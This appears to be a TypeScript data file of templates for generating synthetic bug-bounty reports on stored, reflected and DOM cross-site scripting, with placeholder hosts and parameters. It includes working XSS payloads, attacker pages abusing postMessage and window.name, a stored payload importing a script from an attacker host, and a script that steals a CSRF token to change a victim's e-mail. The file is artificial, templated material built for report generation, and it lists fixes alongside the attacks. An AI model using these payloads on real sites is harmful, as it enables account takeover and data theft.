import type { VulnerabilityClass } from './vulnerability-class.ts'

const storedXss: VulnerabilityClass = {
  key: 'stored-xss',
  type: 'Cross-site scripting, stored',
  cwe: 79,
  weight: 8,
  surfaces: ['web', 'mobile'],
  shape: 'script',
  severities: [
    ['High', 4],
    ['Medium', 6],
    ['Low', 1],
  ],
  places: [
    { method: 'POST', path: '«collection»', parameter: '«textField»', detail: 'the list of «many»' },
    {
      method: 'PATCH',
      path: '«collection»/{id}',
      parameter: '«textField»',
      detail: 'the print view of a «one»',
    },
    { method: 'POST', path: '«api»/attachments', parameter: 'filename', detail: 'the activity feed' },
    {
      method: 'PUT',
      path: '«api»/profile',
      parameter: 'displayName',
      detail: 'the page of every «staffRole»',
    },
    { method: 'POST', path: '«api»/import/csv', parameter: 'column header', detail: 'the import preview' },
  ],
  titles: [
    'Stored XSS in the `«parameter»` of a «one» runs for every «staffRole»',
    'Stored XSS in `«parameter»` changes the e-mail address of whoever opens «detail»',
    'Blind XSS fired in the back office through `«parameter»`',
    'Stored XSS via `«parameter»` in «detail»',
    'Persistent cross-site scripting in «detail» → account takeover (`«parameter»`)',
    'My payload in `«parameter»` came back from an internal page of «host»',
  ],
  summaries: [
    'The `«parameter»` of a «one» is shown without encoding in «detail». A script in it runs in the session of whoever opens that page, «staffRole»s included.',
    'HTML in `«parameter»` survives saving and is executed in «detail». No interaction is needed apart from opening the page, and the script can do all that the visitor can.',
    'I saved a payload in `«parameter»` and a day later it fired in an internal page: a «staffRole» had opened my «one».',
  ],
  steps: [
    [
      'As `«me»` create a «one».',
      'Set `«parameter»` to the payload below and save. The form refuses `<`, the API does not.',
      'As another user of the same team (`«victim»`) open «detail».',
      'The dialog shows `«host»`, so the script runs in the main origin.',
    ],
    [
      'Store the payload in `«parameter»` by `«method» «path»`.',
      'Open «detail» with another account (`«victim»`).',
      'Look at the settings of that account: the e-mail address is mine.',
      'Ask for a new password. The mail comes to me.',
    ],
    [
      'Store a payload that loads a script from `«listener»`.',
      'Wait until somebody of the company looks at the «one».',
      'The script reports the page on which it ran. Mine sends nothing else, cookies are masked before they leave the browser.',
    ],
  ],
  proofs: [
    [
      {
        say: 'Storing the payload:',
        lang: 'http',
        code: `«method» «path» HTTP/2
Host: «host»
Cookie: «cookieName»=«session»
Content-Type: application/json

{"«parameter»":"<img src=x onerror=\\"alert(document.domain)\\">"}

HTTP/2 200
Content-Type: application/json

{"id":«idJson»,"«parameter»":"<img src=x onerror=\\"alert(document.domain)\\">"}`,
      },
      {
        say: 'What arrives in the page, unchanged:',
        lang: 'html',
        code: `<td class="cell cell--text"><span><img src=x onerror="alert(document.domain)"></span></td>`,
      },
    ],
    [
      {
        say: 'A payload that does something, without `alert`. It reads the anti-forgery token and changes the e-mail address of the victim:',
        lang: 'js',
        code: `// stored in «parameter» as <svg onload="import('https://«attacker»/x.js')">
const page = await (await fetch('/settings')).text()
const token = page.match(/name="csrf" value="([^"]+)"/)[1]
await fetch('/settings/email', {
  method: 'POST',
  headers: { 'content-type': 'application/x-www-form-urlencoded' },
  body: new URLSearchParams({ csrf: token, email: '«me»' }),
})`,
      },
    ],
    [
      {
        say: 'The callback of the blind payload (session cut):',
        lang: 'text',
        code: `2026-11-18 14:03:51  fired on https://«host»/backoffice/«segment»/«id»
user agent   Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/142
origin       https://«host»
referrer     https://«host»/backoffice/queue?filter=open
cookies      «cookieName»=****** (not HttpOnly)`,
      },
    ],
  ],
  impacts: [
    'Script in the session of a «staffRole»: it can read «secrets» of every «customer» and act in their name. The cookie is not even needed for that.',
    'Account takeover of everybody who opens «detail». With the payload in a «one» that is shared, it spreads by itself.',
    'An attacker without any rights reaches the back office, from where all «many» are visible.',
  ],
  fixes: [
    'Encode on output; `dangerouslySetInnerHTML` is used here only because of line breaks, which CSS can do.',
    'Escape in the template, and add a content security policy without `unsafe-inline` so that the next one does not fire.',
  ],
  notes: [
    'Fires in the print view only, the list is fine. The view is rendered by the old template engine without auto-escape.',
    'CSP blocks inline handlers on this page since release 241, but `script-src` has the CDN with JSONP on it. So still exploitable, keep.',
    'Reproduced with two users of one team. Across tenants it does not work, Medium.',
  ],
}

const reflectedXss: VulnerabilityClass = {
  key: 'reflected-xss',
  type: 'Cross-site scripting, reflected',
  cwe: 79,
  weight: 7,
  surfaces: ['web'],
  shape: 'script',
  severities: [
    ['High', 1],
    ['Medium', 7],
    ['Low', 2],
  ],
  places: [
    { path: '/search', parameter: 'q' },
    { path: '/error', parameter: 'message' },
    { path: '/«segment»/print', parameter: 'back' },
    { path: '/login', parameter: 'returnTo' },
    { path: '/newsletter/confirm', parameter: 'name' },
  ],
  titles: [
    'XSS in `«parameter»` of «host»«path» (filter bypass with an SVG animation)',
    'Unquoted attribute → XSS in «path»?«parameter»=',
    'Reflected XSS on «host»«path» through `«parameter»`',
    'Reflected cross-site scripting at «path», works in all current browsers',
  ],
  summaries: [
    'The filter in front of `«path»` takes out `script` and `onerror`, but not every event handler. The payload below passes and runs in the origin of «host».',
    '`«parameter»` is written into an attribute of the page of `«path»` without encoding of quotes. A link is enough to run a script in the origin of «host».',
  ],
  steps: [
    ['Sign in to «host».', 'Open the address below in the same browser («browser»).', 'The dialog appears.'],
    [
      'Look where `«parameter»` lands: inside an attribute.',
      'Double quotes are not encoded, so the attribute can be closed.',
      'Open the address. The element takes the focus by itself and the script runs.',
    ],
  ],
  proofs: [
    [
      {
        say: 'Address:',
        lang: 'text',
        code: `https://«host»«path»?«parameter»=%27%3E%3Csvg%3E%3Canimate%20onbegin%3Dalert(document.domain)%20attributeName%3Dx%20dur%3D1s%3E`,
      },
      {
        say: 'In the page:',
        lang: 'html',
        code: `<input type='text' name='«parameter»' value=''><svg><animate onbegin=alert(document.domain) attributeName=x dur=1s>'>`,
      },
    ],
    [
      {
        say: 'Request and answer:',
        lang: 'http',
        code: `GET «path»?«parameter»=%22autofocus%20onfocus%3Dalert(1)%20x%3D%22 HTTP/2
Host: «host»

HTTP/2 200
Content-Type: text/html; charset=utf-8

…<a class="back" href=""autofocus onfocus=alert(1) x="">Back</a>…`,
      },
    ],
  ],
  impacts: [
    'Whoever follows a link on the real domain runs the attacker’s script: reading «many», changing settings, asking for the password in a form that looks right.',
    'Session riding in the name of the victim. The cookie is `HttpOnly`, so it cannot be read, but the script does not need it.',
  ],
  fixes: ['Encode for the attribute context, quotes included. Filtering words is a race that cannot be won.'],
  notes: [
    'Works in Chrome 142 and Firefox 145. WAF catches it from outside our network in about half of the tries.',
    'Only reachable when signed out, and the page has no session. Lowered.',
  ],
}

const domXss: VulnerabilityClass = {
  key: 'dom-xss',
  type: 'Cross-site scripting, DOM',
  cwe: 79,
  weight: 4,
  surfaces: ['web'],
  shape: 'script',
  severities: [
    ['High', 2],
    ['Medium', 6],
    ['Low', 1],
  ],
  places: [
    {
      path: '/checkout/complete',
      parameter: 'postMessage',
      detail: 'innerHTML',
      proofs: [
        [
          {
            say: 'The code as it is delivered, made readable:',
            lang: 'js',
            code: `// checkout.9f2c91.js, line 1 column 48213
window.addEventListener('message', (event) => {
  // event.origin is not looked at
  const { html, target } = event.data
  document.querySelector(target).innerHTML = html
})`,
          },
          {
            say: 'Page of the attacker:',
            lang: 'html',
            code: `<script>
  const view = open('https://«host»«path»')
  setTimeout(() => view.postMessage({ target: 'body', html: '<img src=x onerror=alert(origin)>' }, '*'), 2500)
</script>`,
          },
        ],
      ],
    },
    {
      path: '/«segment»',
      parameter: 'location.hash',
      detail: 'innerHTML',
      proofs: [
        [
          {
            say: 'The line in question:',
            lang: 'js',
            code: `// «segment»-list.js:212
const tab = decodeURIComponent(location.hash.slice(1))
title.innerHTML = \`Showing \${tab}\``,
          },
          {
            say: 'Address:',
            lang: 'text',
            code: 'https://«host»«path»#%3Cimg%20src%3Dx%20onerror%3Dalert(origin)%3E',
          },
        ],
      ],
    },
    {
      path: '/help',
      parameter: 'window.name',
      detail: 'document.write',
      proofs: [
        [
          {
            say: 'Source and sink, from the debugger:',
            lang: 'text',
            code: `source  window.name              help.js:31
   ->   JSON.parse(...)          help.js:33
   ->   template(article.title)  help.js:58
sink    document.write           help.js:61`,
          },
          {
            say: 'Page of the attacker:',
            lang: 'html',
            code: `<script>
  name = JSON.stringify({ article: { title: '<svg onload=alert(origin)>' } })
  location = 'https://«host»«path»'
</script>`,
          },
        ],
      ],
    },
  ],
  titles: [
    'DOM XSS: `«parameter»` flows into `«detail»` on «path»',
    'DOM-based XSS on «host» through `«parameter»`',
    '`«detail»` with `«parameter»` → script in the origin of «host»',
    'Client-side script injection at «path» (`«parameter»` to `«detail»`)',
  ],
  summaries: [
    'The page script of `«path»` takes `«parameter»` and hands it to `«detail»`. The server never sees the payload, so no filter helps.',
    'A handler on «path» trusts `«parameter»`, which another site decides. It ends in `«detail»`.',
  ],
  steps: [
    [
      'Sign in to «host» in «browser».',
      'In the same browser open what is shown below.',
      'The dialog shows the origin of «host».',
    ],
  ],
  proofs: [[{ say: 'Source and sink:', lang: 'text', code: 'source  «parameter»\nsink    «detail»' }]],
  impacts: [
    'Same as any script in this origin: all that the signed-in «customer» can do, the script can do.',
    'Nothing shows in the logs of the server, which makes it hard to notice.',
  ],
  fixes: [
    'Check `event.origin` against a list and use `textContent`.',
    'Use `textContent`, or a sanitizer with trusted types switched on.',
  ],
  notes: [
    'Confirmed in a debugger, sink is in the vendored chat widget. Vendor has a fixed version since October.',
  ],
}

export const scriptingClasses: readonly VulnerabilityClass[] = [storedXss, reflectedXss, domXss]
